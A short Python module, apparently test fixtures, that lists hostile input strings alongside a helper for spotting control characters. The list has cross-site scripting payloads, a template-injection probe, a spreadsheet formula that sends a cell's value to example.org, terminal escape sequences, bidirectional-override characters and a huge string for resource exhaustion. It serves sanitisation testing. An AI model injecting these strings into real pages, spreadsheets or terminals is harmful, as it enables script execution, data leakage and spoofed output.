"""Texts that mean harm, and what of them must not reach a terminal or a page."""

import unicodedata

HOSTILE = [
    "<script>document.title = 'owned'</script>",
    '"><img src=x onerror="document.title = \'owned\'">',
    "</td></table></svg></script><iframe src=javascript:alert(1)>",
    "{{ 7 * 6 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    '=HYPERLINK("http://example.org/?" & A1, "look")',
    "bell \x00\x01\x07\x08\x7f\x9b",
    "red \x1b[31malert\x1b]0;owned\x07 \x1b[2J\r\nfaked line",
    "turned \u202earound\u2066 and \u2028 parted \x85 lines",
    "long " + "word " * 2_000_000,
]


def control_characters(text: str) -> set[str]:
    """Those that hide or turn what stands beside them; Devanagari needs its joiners."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf")} - set("\n\u200c\u200d")
